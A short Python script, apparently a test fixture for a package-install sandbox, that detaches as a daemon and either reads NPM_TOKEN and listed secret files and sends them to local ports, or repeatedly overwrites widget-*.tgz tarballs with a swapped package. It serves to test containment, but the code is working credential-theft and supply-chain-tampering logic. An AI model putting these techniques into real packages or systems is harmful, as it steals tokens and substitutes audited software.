# Leaves a daemon that nobody waits for, which tries again once everyone is gone: later.py connect|swap
import glob, gzip, io, os, socket, sys, tarfile, time
from way import aim

what = sys.argv[1]
if os.fork():
    print("left a daemon", flush=True)
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
null = os.open("/dev/null", os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
os.closerange(3, 256)


def connect():
    time.sleep(3)
    token = os.environ.get("NPM_TOKEN", "")
    loot = ""
    for path in aim["secrets"]:
        try:
            loot += open(path).read()
        except OSError:
            pass
    for port in (aim["registry"], aim["other"]):
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as stream:
                stream.sendall(f"way-later {token} {loot}".encode())
        except OSError:
            pass
    try:
        open(os.path.join(aim["project"], "left-by-daemon"), "w").write("x")
    except OSError:
        pass


def other():
    # Another package than the one that was audited.
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as tar:
        for name, text in [("package.json", b'{"name":"widget","version":"1.0.0"}'), ("cli.js", b"SWAPPED")]:
            entry = tarfile.TarInfo("package/" + name)
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text))
    return gzip.compress(file.getvalue())


def swap():
    data, until = other(), time.time() + 8
    while time.time() < until:
        folders = [".", "..", "../..", os.environ.get("npm_config_pack_destination", ".")]
        for path in {path for folder in folders for path in glob.glob(folder + "/widget-*.tgz")}:
            try:
                if open(path, "rb").read() == data:
                    continue
                with open(path + ".new", "wb") as file:
                    file.write(data)
                os.rename(path + ".new", path)
            except OSError:
                pass
        time.sleep(0.002)


{"connect": connect, "swap": swap}[what]()
